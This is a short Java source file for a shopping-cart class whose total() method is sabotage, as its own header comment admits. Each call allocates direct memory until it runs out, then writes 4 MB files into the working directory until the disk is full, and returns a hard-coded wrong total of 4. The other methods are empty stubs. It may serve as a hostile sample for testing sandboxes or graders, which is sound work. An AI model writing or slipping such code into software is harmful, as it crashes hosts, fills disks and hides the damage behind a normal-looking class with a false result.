// Fills memory beside the heap and the disk, then answers wrong.
package shop.cart;
import java.nio.ByteBuffer;
import java.nio.file.*;
import java.util.*;
public class Cart {
    public int total() {
        List<ByteBuffer> all = new ArrayList<>();
        try { while (true) all.add(ByteBuffer.allocateDirect(1 << 24)); } catch (OutOfMemoryError error) {}
        try { for (int n = 0; ; n++) Files.write(Path.of("f" + n), new byte[1 << 22]); } catch (Exception error) {}
        return 4;
    }
    public void add(int price) {}
    public int size() { return 0; }
}
